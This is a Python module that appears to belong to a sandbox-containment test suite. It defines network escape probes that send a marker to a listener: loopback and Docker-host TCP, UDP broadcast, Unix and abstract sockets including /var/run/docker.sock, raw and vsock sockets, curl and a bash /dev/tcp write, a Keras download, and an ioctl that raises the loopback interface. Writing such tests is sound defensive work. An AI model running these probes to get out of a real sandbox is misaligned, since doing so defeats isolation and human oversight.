"""The network in every form; somebody listens on the host's loopback and on an abstract socket."""

from attacks.attack import before

TCP = """
import socket
for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", "::ffff:127.0.0.1", "10.0.2.2", "host.docker.internal"):
    try:
        with socket.create_connection((host, $PORT), timeout=1) as connection:
            connection.sendall(b"$MARK")
            print("reached", host)
    except OSError as error:
        print(host, error)
"""
UDP = """
import socket
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "255.255.255.255")):
    try:
        sender = socket.socket(family, socket.SOCK_DGRAM)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sender.sendto(b"$MARK", (host, $PORT))
    except OSError as error:
        print(host, error)
"""
ABSTRACT = """
import glob, socket
for path in ["\\0$MARK", *glob.glob("$CANARY/*.socket"), *glob.glob("/run/**/*sock*", recursive=True), "/var/run/docker.sock"]:
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(1)
        connection.connect(path)
        connection.sendall(b"$MARK")
        print("reached", repr(path))
    except OSError as error:
        print(repr(path), error)
"""
RAW = """
import socket
for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, 1), (40, socket.SOCK_STREAM, 0)):
    try:
        opened = socket.socket(family, kind, protocol)
        opened.settimeout(1)
        opened.connect((2, $PORT)) if family == 40 else opened.sendto(b"$MARK", ("127.0.0.1", 0))
        print("opened", family)
    except (OSError, TypeError) as error:
        print(family, error)
"""
BROWSE = """
import subprocess, urllib.request
try:
    print(urllib.request.urlopen("http://127.0.0.1:$PORT/$MARK", timeout=1).read())
except OSError as error:
    print(error)
for command in (["curl", "-m", "1", "http://127.0.0.1:$PORT/$MARK"], ["bash", "-c", "echo $MARK > /dev/tcp/127.0.0.1/$PORT"]):
    try:
        subprocess.run(command, timeout=3)
    except (OSError, subprocess.SubprocessError) as error:
        print(error)
"""
KERAS = """
import keras
try:
    keras.utils.get_file("$MARK", origin="http://127.0.0.1:$PORT/$MARK")
except Exception as error:
    print(error)
"""
INTERFACE = """
import fcntl, socket, struct
control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    fcntl.ioctl(control, 0x8914, struct.pack("16sh", b"lo", 0x1 | 0x40))  # SIOCSIFFLAGS: up
except OSError as error:
    print(error)
"""

ATTACKS = [
    before("network-tcp", TCP),
    before("network-udp", UDP),
    before("network-unix", ABSTRACT),
    before("network-raw", RAW),
    before("network-browse", BROWSE),
    before("network-keras", KERAS),
    before("network-interface", INTERFACE + TCP),
]
